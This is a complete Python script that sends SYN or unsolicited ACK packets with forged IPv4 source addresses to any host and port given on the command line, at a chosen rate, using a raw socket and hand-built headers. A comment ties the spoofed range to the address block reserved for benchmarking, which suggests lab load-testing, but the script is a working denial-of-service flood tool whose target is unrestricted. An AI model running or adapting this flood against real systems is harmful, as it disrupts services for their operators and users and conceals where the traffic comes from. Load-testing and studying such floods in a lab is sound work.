"""
Sends SYNs, or ACKs of connections that do not exist, with forged IPv4 sources at a steady rate. Prints the count sent every
second. Usage: flood.py HOST PORT PER_SECOND [ACK]
"""
import random, socket, struct, sys, time

host, port, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
flags = 16 if sys.argv[4:] == ["ACK"] else 2
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton(host)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def segment():
    # 198.19.0.0/16 is reserved for benchmarks; the internet of the laboratory drops what is sent to it.
    source = bytes([198, 19, random.randrange(256), random.randrange(1, 255)])
    head = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), random.getrandbits(32) if flags == 16 else 0, 5 << 4, flags, 64240, 0, 0)
    tcp = head[:16] + struct.pack("!H", checksum(source + target + struct.pack("!HH", 6, len(head)) + head)) + head[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + source + target + tcp


begun, sent, said = time.monotonic(), 0, 0
while True:
    now = time.monotonic() - begun
    while sent < now * rate:
        raw.sendto(segment(), (host, 0))
        sent += 1
    if int(now) > said:
        said = int(now)
        print(sent, flush=True)
    time.sleep(0.002)
